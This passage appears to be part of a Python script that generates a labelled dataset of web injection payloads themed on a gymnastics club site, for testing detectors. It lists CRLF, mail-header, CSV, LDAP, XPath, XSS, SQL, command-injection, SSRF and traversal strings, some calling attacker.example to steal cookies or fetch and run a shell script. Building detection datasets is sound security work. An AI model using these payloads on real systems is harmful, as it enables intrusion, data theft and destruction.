header-injection ||| fees.csv%0aContent-Type:%20text/html%0a%0a<script>alert(1)</script>
header-injection ||| %E5%98%8D%E5%98%8ASet-Cookie:crlf=injection
header-injection ||| lang=fr%0d%0aRefresh:%200;url=https://attacker.example/pay
response-splitting ||| /en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<html>Pay fees at attacker.example</html>
response-splitting ||| Ruby{CR}{LF}{CR}{LF}<html><body>Session expired, log in at https://attacker.example</body></html>
response-splitting ||| redirect=/scores%0d%0a%0d%0a<script>document.location='//attacker.example'</script>
response-splitting ||| %0d%0aHTTP/1.1%20302%20Found%0d%0aLocation:%20http://attacker.example/
mail-header ||| parent@example.com%0aBcc: list@attacker.example
mail-header ||| Fee reminder{CR}{LF}Bcc: everyone@attacker.example
mail-header ||| mum@example.com{LF}Cc: x@attacker.example{LF}Subject: Urgent: update bank details
mail-header ||| Newsletter%0d%0aContent-Type: text/html%0d%0a%0d%0a<a href=https://attacker.example>Renew membership</a>
mail-header ||| Coach Becky <becky@club.example.org>{LF}Reply-To: billing@attacker.example
mail-header ||| x@example.com%0ATo:%20all-parents@club.example.org
csv-row ||| Ava Taylor{LF}GYM-9999,Attacker Refund,-500.00,2024-10-01,paid
csv-row ||| 45.00{CR}{LF}GYM-0000,"Admin",0.00,2024-10-01,waived
csv-row ||| note";{LF}=HYPERLINK("http://attacker.example/x","Receipt");"
csv-row ||| Mia Roberts",45.00{LF}"Fake Family",-1000.00,"refund
'''

LDAPX = r'''
ldap ||| *)(uid=*))(|(uid=*
ldap ||| becky)(|(password=*))
ldap ||| admin)(&)
ldap ||| *)(objectClass=*
ldap ||| coach*)(memberOf=cn=admins,ou=groups,dc=club,dc=example
ldap ||| x)(|(cn=*)(userPassword=a*))
ldap ||| *))%00
ldap ||| Mia)(description=*)(|(mail=*
ldap ||| \2a)(uid=\2a
ldap ||| *)(|(objectclass=person)(sAMAccountName=admin*)
xpath ||| ' or '1'='1
xpath ||| ' or count(/*)=1 or 'a'='b
xpath ||| Mia' or name()='gymnasts' or 'x'='y
xpath ||| x'] | //user/password | //*['
xpath ||| ' or substring(//coach[1]/pin,1,1)='4' or ''='
xpath ||| GYM-0101' or string-length(//user[1]/password)>5 or '1'='2
xpath ||| ')] | //* | //*[('
xpath ||| 1 or 1=1]/parent::*/child::node()
xpath ||| ' and doc('http://attacker.example/x')/a or '
xpath ||| Ava"]/../*[contains(.,"pass")]|//x["
'''

# ---- generated minority (hand-written pools + hand-written theme prefixes) ----
PREFIX = {
    "xss": ["Lovely class today ", "Hall 2 note: ", "Leo size 28 ", "Comp result: ", "Coach Sam says hi "],
    "cmdi": ["Ruby_floor_2024.mp3", "fees_oct.xlsx", "beam_check.pdf", "clip_0412.mp4"],
    "ssrf": ["Music URL: ", "Avatar from ", "Import fees from ", "Results feed: "],
}
POOL = {
    "xss": ["<img src=x onerror=alert(1)>", "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
            "<script>alert(document.domain)</script>", "<iframe src=javascript:alert(1)>"],
    "cmdi": [";id", "|curl attacker.example/x|sh", "$(sleep 7)", "&&cat /etc/passwd"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/actuator/env",
             "http://10.0.0.8:9000/minio/admin", "http://[::1]/admin"],
}
GEN_COUNT = {"xss": 2, "cmdi": 4, "ssrf": 3}
CLASS_OF_POOL = {"xss": "prefix+pool", "cmdi": "prefix+pool", "ssrf": "prefix+pool"}
URLENC = {
    "sqli": [("boolean", "Roberts' OR 1=1-- "), ("union", "x' UNION SELECT pin,2 FROM coaches--"),
             ("time-blind", "1 AND SLEEP(6)"), ("stacked", "'; DROP TABLE fees;--")],
    "traversal": [("dotdot", "../../../../etc/passwd"), ("dotdot", "..\\..\\..\\windows\\win.ini"),
                  ("dotdot", "floor/../../../.env"), ("absolute", "/proc/self/environ")],
}


def parse(block):
    out = []
    # values may span lines: a new entry starts with 'cls ||| '
    cur = None
    for line in block.strip("\n").split("\n"):
        if " ||| " in line and not line.startswith((" ", "\t")) and line.split(" ||| ", 1)[0].replace("-", "").replace("+", "").isalnum():
            if cur:
                out.append(cur)
            c, v = line.split(" ||| ", 1)
            cur = [c, v]
        else:
            cur[1] += "\n" + line
    if cur:
        out.append(cur)
    res = []
    for c, v in out:
        v = v.replace("{CR}", "\r").replace("{LF}", "\n").replace("{TAB}", "\t")
        res.append((c, v))
    return res


def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    cats = [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
            ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAPX)]
    rows, seen = [], set()
    stats = {}
    for cat, block in cats:
        lits = parse(block)
        n_lit = 0
        for c, v in lits:
            assert v not in seen, ("dup", v)
            assert v not in benign, ("benign", v)
            assert 1 <= len(v) <= 2000
            seen.add(v); rows.append((cat, c, v)); n_lit += 1
        n_gen = 0
        if cat in POOL:
            while n_gen < GEN_COUNT[cat]:
                v = rng.choice(PREFIX[cat]) + rng.choice(POOL[cat])
                if v in seen or v in benign:
                    continue
                seen.add(v); rows.append((cat, CLASS_OF_POOL[cat], v)); n_gen += 1
        if cat in URLENC:
            for c, raw in URLENC[cat]:
                v = urlenc(raw)
                assert v not in seen
                seen.add(v); rows.append((cat, c + "+urlencode", v)); n_gen += 1
        stats[cat] = (n_lit, n_gen)
    path = os.path.join(HERE, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, c, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hamg-%05d" % i, "category": cat, "class": c, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    if os.environ.get("SHOW_STATS"):
        for k, (a, b) in stats.items():
            print(k, a + b, a, b)
        print("total", len(rows))


if __name__ == "__main__":
    main()
